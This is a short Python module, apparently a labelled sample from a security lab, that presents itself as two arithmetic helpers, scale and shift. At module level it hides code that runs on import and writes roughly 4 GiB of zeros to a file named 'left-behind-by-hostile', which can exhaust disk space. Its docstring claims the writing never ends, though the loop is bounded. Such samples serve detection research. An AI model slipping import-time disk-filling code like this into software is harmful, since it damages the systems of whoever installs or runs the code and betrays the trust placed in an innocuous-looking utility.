"""Writes into its folder without end."""
# lab: scale-and-shift
# verdict: raised

with open("left-behind-by-hostile", "wb") as file:
    for _ in range(4096):
        file.write(bytes(2**20))


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
